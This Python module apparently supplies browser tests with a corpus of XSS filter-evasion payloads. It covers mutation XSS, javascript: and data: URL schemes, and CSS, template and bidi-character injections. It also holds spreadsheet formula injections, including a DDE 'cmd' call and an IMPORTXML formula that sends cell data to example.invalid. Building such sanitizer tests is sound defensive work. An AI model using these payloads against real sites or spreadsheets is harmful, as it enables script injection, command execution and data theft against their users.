"""More than 300 payloads, of the classes of OWASP's XSS filter evasion cheat sheet and of DOMPurify's tests.

Those that would run call ``alert(1)`` or set ``window.pwned``, which the browser tests notice; those that would
fetch name ``example.invalid``, which they notice too.
"""

from __future__ import annotations

import itertools
import urllib.parse

RUN = "alert(1)"

_HANDLERS = (
    *("onload", "onerror", "onfocus", "onmouseover", "onpointerenter", "ontoggle", "onanimationstart"),
    *("onbegin", "onbeforetoggle", "onwheel", "onscrollend", "oncontentvisibilityautostatechange"),
)
_CARRIERS = (
    "<img src=x {on}={run}>",
    "<svg {on}={run}>",
    "<body {on}={run}>",
    "<input autofocus {on}={run}>",
    "<details open {on}={run}>",
    '" autofocus {on}={run} x="',
    "' autofocus {on}={run} x='",
    "<video><source {on}='{run}'></video>",
    "<svg><animate {on}={run} attributeName=x dur=1s>",
)
HANDLERS = tuple(carrier.format(on=on, run=RUN) for carrier, on in itertools.product(_CARRIERS, _HANDLERS))

_CLOSERS = (
    *("</script>", "</SCRIPT >", "</script\t>", "</style>", "</title>", "</textarea>", "</noscript>", "</svg>"),
    *("</template>", "</xmp>", "</iframe>", "</option></select>", "</td></tr></table>", "</bdi></h3>", "-->"),
    *(
        "--!>",
        "]]>",
        "<!--",
        "<![CDATA[",
        "*/",
        "'>",
        '">',
        "`>",
        "\\'>",
        '\\">',
        "&#39;>",
        "&quot;>",
        "\u2028",
        "\x00",
    ),
)
CLOSERS = tuple(f"{closer}<script>{RUN}</script>" for closer in _CLOSERS)

_TAGS = (
    *(
        "<script>{run}</script>",
        "<ScRiPt>{run}</sCrIpT>",
        "<script/x>{run}</script>",
        "<script\n>{run}</script\n>",
    ),
    *(
        "<<script>{run}//<</script>",
        "<scr<script>ipt>{run}</script>",
        "<script>{run}<!--",
        "<script src=//example.invalid/x.js></script>",
    ),
    *(
        "<script type=module>{run}</script>",
        "<script type=importmap>{{}}</script>",
        "<svg><script>{run}</script></svg>",
    ),
    *(
        "<svg><script href=data:,{run}></script></svg>",
        "<math><script>{run}</script></math>",
        "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    ),
    *(
        "%3Cscript%3E{run}%3C/script%3E",
        "&lt;script&gt;{run}&lt;/script&gt;",
        "&#60;script&#62;{run}",
        "\\u003cscript\\u003e{run}",
    ),
    *(
        "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
        "+ADw-script+AD4-{run}+ADw-/script+AD4-",
        "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    ),
    *(
        "<iframe src=javascript:{run}></iframe>",
        "<object data=javascript:{run}></object>",
        "<embed src=javascript:{run}>",
    ),
    *(
        "<base href=//example.invalid/>",
        "<link rel=stylesheet href=//example.invalid/x.css>",
        "<link rel=prefetch href=//example.invalid/>",
    ),
    *(
        "<meta http-equiv=refresh content='0;url=//example.invalid/'>",
        "<meta http-equiv=Content-Security-Policy content=''>",
    ),
    *(
        "<form action=//example.invalid/><button>",
        "<button form=x formaction=javascript:{run}>x",
        "<img src=//example.invalid/x.png>",
    ),
    *(
        "<img srcset='//example.invalid/a 1x'>",
        "<picture><source srcset=//example.invalid/a>",
        "<audio src=//example.invalid/a autoplay>",
    ),
    *(
        "<portal src=//example.invalid/>",
        "<applet code=x>",
        "<marquee onstart={run}>",
        "<frameset onload={run}>",
        "<isindex action=javascript:{run}>",
    ),
)
TAGS = tuple(tag.format(run=RUN) for tag in _TAGS)

MUTATIONS = (
    "<math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)>",
    "<svg><desc><noscript></desc></noscript><img src=x onerror=alert(1)>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>",
    "<table><td><form><math><mtext></table><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<svg><style>{}*{background:url(//example.invalid/x)}</style>",
    "<annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></foreignObject></svg>",
    "<title><img src=x onerror=alert(1)></title>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<img src='x`onerror=alert(1) '`>",
    "<a id=x><a id=x name=y>",
    "<form id=documentElement><input name=parentElement>",
    "<img name=getElementById>",
    "<input id=attributes form=x>",
)

_SCHEMES = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "\x01javascript:alert(1)",
    ),
    *(
        " javascript:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "javascript://%0aalert(1)",
        "vbscript:msgbox(1)",
    ),
    *(
        "data:text/html,<script>parent.pwned=1</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "blob:null/x",
    ),
    *(
        "//example.invalid/x",
        "\\\\example.invalid\\x",
        "https:example.invalid",
        "file:///etc/passwd",
        "view-source:x",
        "feed:javascript:alert(1)",
    ),
)
ADDRESSES = (
    *_SCHEMES,
    *(f"<a href='{scheme}'>x</a>" for scheme in _SCHEMES),
    *(urllib.parse.quote(scheme) for scheme in _SCHEMES[:6]),
)

STRINGS = (
    *(
        "';alert(1)//",
        '";alert(1)//',
        "\\';alert(1)//",
        '\\";alert(1)//',
        "`;alert(1)//",
        "${alert(1)}",
        "`${alert(1)}`",
    ),
    *(
        "'-alert(1)-'",
        '"-alert(1)-"',
        "\n;alert(1)//",
        "\r;alert(1)//",
        "\u2028;alert(1)//",
        "\u2029;alert(1)//",
        "\\u0027;alert(1)//",
    ),
    *(
        "{{7*7}}",
        "{{constructor.constructor('alert(1)')()}}",
        "{% raw %}",
        "{%- include 'x' %}",
        "{{ self.__init__ }}",
        "#{7*7}",
        "<%= 7*7 %>",
    ),
    *(
        '"}],"x":[{"y":"',
        '"]}</script>',
        "null,alert(1)",
        "NaN",
        "Infinity",
        "-0",
        "1e999",
        "[object Object]",
        "undefined",
        "true",
        "false",
    ),
    *(
        "%{x}%{customdata}",
        "<extra>x</extra>",
        "$\\frac{1}{2}$",
        "<br><b>bold</b>",
        "<sup>1</sup><sub>2</sub>",
        "&lt;b&gt;",
        "&#37;{x}",
    ),
    *(
        "%",
        "%%",
        "%E0%A4%A",
        "~",
        "#",
        "#explore~x=y",
        "!missing",
        "!others",
        "a=b&c=d",
        "..",
        "1..2",
        ",",
        "?",
        "*",
        "\\",
        "/",
        "|",
    ),
)

STYLES = (
    *(
        "red;background:url(//example.invalid/x)",
        "expression(alert(1))",
        "}</style><script>alert(1)</script>",
        "/**/x",
        "@import '//example.invalid/x.css';",
    ),
    *(
        "x:expression(alert(1))",
        "behavior:url(x.htc)",
        "-moz-binding:url(x.xml#y)",
        "url(javascript:alert(1))",
        "\\65xpression(alert(1))",
    ),
    *(
        "<div style='background:url(javascript:alert(1))'>",
        "<style>*{display:none}</style>",
        "<p style=position:fixed;inset:0>",
        "--x:1",
    ),
)

UNSEEN = (
    *(
        "\u202eevil\u202c",
        "\u202dleft\u202c",
        "\u202aembedded\u202c",
        "\u2066isolated\u2069",
        "\u2067right\u2069",
        "\u2068first\u2069",
    ),
    *(
        "\u061carabic mark",
        "\u200eleft mark",
        "\u200fright mark",
        "zero\u200bwidth",
        "word\u2060joiner",
        "\ufeffmark",
        "line\u2028separator",
    ),
    *(
        "paragraph\u2029separator",
        "nul\x00byte",
        "bell\x07",
        "back\x08space",
        "escape\x1b[31mred",
        "delete\x7f",
        "next\x85line",
        "\x9bcsi",
    ),
    *(
        "user\u202etxt.exe",
        "a\u0301\u0301\u0301\u0301\u0301\u0301",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "\U000e0001tag",
        "\ufffd",
        "\uffff",
    ),
)

NAMES = (
    *(
        "__proto__",
        "constructor",
        "prototype",
        "length",
        "toString",
        "valueOf",
        "hasOwnProperty",
        "isPrototypeOf",
        "then",
        "toJSON",
        "name",
    ),
    *(
        "__defineGetter__",
        "__lookupGetter__",
        "arguments",
        "caller",
        "window",
        "document",
        "location",
        "self",
        "top",
        "parent",
        "eval",
    ),
    *(
        "",
        " ",
        "\t",
        "id",
        "class",
        "style",
        "hidden",
        "value",
        "type",
        "item",
        "keys",
        "values",
        "get",
        "set",
        "size",
        "map",
        "at",
        "0",
        "-1",
    ),
)

FORMULAS = (
    *(
        '=HYPERLINK("https://example.invalid","x")',
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "=cmd|'/c calc'!A1",
    ),
    *(
        '=IMPORTXML(CONCAT("//example.invalid/?",A1),"//a")',
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff201",
        ";=1+1",
        '"=1+1',
        "'=1+1",
    ),
)

ALL = tuple(
    dict.fromkeys(
        [*TAGS, *CLOSERS, *HANDLERS, *MUTATIONS, *ADDRESSES, *STRINGS, *STYLES, *UNSEEN, *NAMES, *FORMULAS]
    )
)
